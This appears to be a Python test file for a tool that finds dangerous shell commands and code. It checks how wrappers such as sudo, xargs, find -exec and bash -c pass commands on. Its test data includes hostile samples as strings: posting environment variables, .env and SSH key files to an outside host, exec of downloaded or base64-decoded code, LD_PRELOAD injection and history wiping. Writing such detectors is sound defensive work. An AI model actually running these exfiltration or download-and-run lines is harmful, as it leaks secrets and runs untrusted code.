"""Programs that run others: what is handed on, and to whom."""

from __future__ import annotations

from feishuperm.danger.code import run_code
from feishuperm.danger.interpreter import (
    DECODED,
    DOWNLOADED,
    NOTHING,
    SECRET,
    SHELL,
    Arg,
    Args,
    Output,
)
from feishuperm.danger.paths import UNKNOWN
from feishuperm.danger.wrappers import RUN_BY_OTHERS, script
from tests.danger.stage import Stage
from tests.tables import every_row


@every_row(
    ("command", "calls"),
    [
        ("nice -n 10 rm x", ["rm x"]),
        ("nice 'rm x; cat y'", ["rm x", "cat y"]),
        ("script -c 'rm x' out", ["rm x"]),
        ("timeout -k 5 10 rm x", ["rm x"]),
        ("env -u A B=1 rm x", ["rm x"]),
        ("env -S 'rm x'", ["rm x"]),
        ("sudo -u x rm -e y", ["rm -e y"]),
        ("chroot / rm x", ["rm x"]),
        ("su -c 'rm x'", ["rm x"]),
        ("runuser -u x -- rm y", ["rm y"]),
        ("bash -lc 'rm $1' a b", ["rm b"]),
        ("bash -c -e 'rm $1' a", ["rm \0"]),
        ("bash -nc", []),
        ("bash y.sh rm x", ["rm x"]),
        ("eval rm '$HOME'", ["rm /home/me"]),
        ("xargs -n 1 rm -f", ["rm -f a b"]),
        ("xargs -I% rm %/x", ["rm a b/x"]),
        ("find -exec rm {} +", ["rm ."]),
        (
            "find -L b c -name x -exec rm -f ';'",
            ["rm -f b/x", "rm -f c/x"],
        ),
        ("find ! -name x -exec rm {} ;", ["rm ."]),
        ("fd x b -x rm", ["rm b/x*"]),
        ("parallel -j 2 rm {} ::: a b", ["rm a", "rm b"]),
        ("man -P 'rm x' y", ["rm x"]),
        ("tmux new 'rm x'", ["rm x"]),
        ("screen -dm rm x", ["rm x"]),
        ("zellij run -- rm x", ["rm x"]),
        ("vim -c '!rm x' y", ["rm x"]),
        ("vim '!rm x'", []),
        ("python -m make x", ["make x"]),
    ],
)
def test_command_is_handed_on(command: str, calls: list[str]) -> None:
    stage = Stage()
    stage.play(command, Output("a b\n") if "xargs" in command else NOTHING)
    assert stage.calls == calls


@every_row(
    ("command", "notes"),
    [
        ("sudo -u x rm y", ["danger.root sudo rm y"]),
        ("sudo -l", []),
        ("sudo -e /srv/x",
         ["danger.root sudo /srv/x", "danger.overwrite /srv/x"]),
        ("sudoedit /srv/x",
         ["danger.root sudoedit /srv/x", "danger.overwrite /srv/x"]),
        ("sudo -i", ["danger.root sudo"]),
        ("su --help", []),
        ("su", ["danger.root su"]),
        ("history -c", ["danger.wipe history -c"]),
        ("printenv -c", []),
        ("env LD_PRELOAD=x a", ["danger.inject LD_PRELOAD=x"]),
        ("env PATH=/tmp/x:/bin a", ["danger.inject PATH=/tmp/x:/bin"]),
        ("env PATH=bin:/usr/bin:/tmp a", []),
        ("find ~/x -delete", ["danger.delete ~/x", "fact.outside ~/x"]),
        ("find -fprint /srv/x", ["danger.overwrite /srv/x"]),
        ("python -m http.server", ["fact.host 0.0.0.0"]),
        ("python -m http.server -b ::1", ["fact.host localhost"]),
        ("vim -c wq .git/config", ["danger.permissions .git/config"]),
        ("ex -c wq /srv/x",
         ["danger.overwrite /srv/x", "fact.outside /srv/x"]),
        ("vim /srv/x", ["fact.outside /srv/x"]),
        ("deno run https://a.b/c", ["danger.downloaded https://a.b/c"]),
        ("perl -i -pe s/a/b/ /srv/x", ["danger.overwrite /srv/x"]),
        ("python x.py -c /srv/y", ["fact.outside /srv/y"]),
        ("python deploy.py", ["danger.publish deploy.py"]),
    ],
)  # fmt: skip
def test_runner_itself_is_noted(command: str, notes: list[str]) -> None:
    stage = Stage()
    stage.play(command)
    assert [note for note in stage.notes if note != "fact.opaque"] == notes


@every_row(
    ("command", "text", "calls"),
    [
        ("bash", "rm x", ["rm x"]),
        ("bash -s -- y", "rm x", ["rm x"]),
        ("bash -n", "rm x", []),
        ("bash y", "rm x", []),
        ("source /dev/stdin", "rm x", ["rm x"]),
        ("python", "os.system('rm x')", ["rm x"]),
        ("python -", "os.system('rm x')", ["rm x"]),
        ("python y.py", "os.system('rm x')", []),
        ("xargs sh", "rm x", ["rm x", "sh rm x"]),
        ("xargs sh -e", "rm x", ["sh -e rm x"]),
    ],
)
def test_text_that_flows_in_is_run(command: str, text: str, calls: list[str]) -> None:
    stage = Stage()
    stage.play(command, Output(text))
    assert stage.calls == calls


def test_file_is_run_by_its_content() -> None:
    stage = Stage()
    stage.state.keep("x", Output("rm y", DOWNLOADED, "a.b"))
    stage.play("bash x")
    assert stage.calls == ["rm y"] and stage.notes == ["danger.downloaded a.b"]
    stage.state.brings("dir", "c.d")
    stage.play("source dir/z")
    assert stage.notes == ["danger.downloaded a.b, c.d"]
    run_code(stage.state, Arg("x", DOWNLOADED, "e.f"), Output())
    assert stage.notes == ["danger.downloaded a.b, c.d, e.f"]


def test_file_that_only_the_run_will_tell_is_opaque() -> None:
    stage = Stage()
    script(stage.state, Arg(UNKNOWN, DECODED, "x"), Args())
    assert stage.notes == ["danger.decoded x"]
    script(stage.state, Arg(UNKNOWN), Args())
    assert stage.notes == ["danger.decoded x", "fact.opaque …"]


@every_row(
    ("text", "notes"),
    [
        ("shutil.rmtree('/srv/x')", ["danger.delete /srv/x"]),
        ("shutil.rmtree('$HOME/x')", ["danger.delete ~/x"]),
        ("shutil.rmtree(x)", ["danger.unsure rmtree"]),
        ("p = '/srv/x'; os.remove(p)", ["danger.delete /srv/x"]),
        ("open('/srv/x', 'w')", ["danger.overwrite /srv/x"]),
        ("p = '.git/config'; open(p, 'w')", ["danger.permissions .git/config"]),
        ("db.execute('drop table x')", ["danger.data drop table x"]),
        ("Post.delete_all", ["danger.data .delete_all"]),
        ("os.setuid(0)", ["danger.root setuid(0"]),
        ("exec(b64decode(x))", ["danger.decoded"]),
        ("post('https://a.b', os.environ)",
         ["danger.leak os.environ → a.b", "fact.host a.b"]),
        ("post('https://a.b', open('.env'))",
         ["danger.leak .env → a.b", "fact.host a.b"]),
        ("post('https://a.b', open('~/.ssh/x'))",
         ["danger.leak ~/.ssh/x → a.b", "fact.host a.b"]),
        ("post('https://a.b', open('x.txt'))", ["fact.host a.b"]),
        ("exec(urlopen('https://a.b'))", ["danger.downloaded a.b", "fact.host a.b"]),
        ("\0", ["fact.opaque"]),
        ("print(1)", []),
    ],
)  # fmt: skip
def test_code_is_read_for_what_it_does(text: str, notes: list[str]) -> None:
    stage = Stage()
    run_code(stage.state, Arg(text), Output())
    assert stage.notes == notes


def test_file_that_code_fetches_is_remembered() -> None:
    stage = Stage()
    run_code(stage.state, Arg("urlretrieve('http://a.b/c', 'd')"), Output())
    assert stage.state.content("d") == Output(None, DOWNLOADED, "a.b")


def test_code_runs_texts_that_are_commands() -> None:
    stage = Stage()
    text = Arg("x = 'rm y'; z = 'ls y'; popen(x)")
    run_code(stage.state, text, Output(), RUN_BY_OTHERS)
    assert stage.calls == ["rm y"]


def test_what_a_runner_prints_comes_from_somewhere() -> None:
    stage = Stage()
    assert stage.play("printenv").origin == SECRET
    assert stage.play("printenv PATH").origin == ""
    assert stage.play("env").origin == SECRET
    assert stage.play("bash").origin == SHELL
    code = Arg("print(b64decode(x))")
    assert run_code(stage.state, code, Output()).origin == DECODED
    code = Arg("print(get('https://a.b'))")
    assert run_code(stage.state, code, Output()).origin == DOWNLOADED
    assert stage.play("find /srv -name a*").text == "/srv/a*"
    assert stage.play("find b").text is None
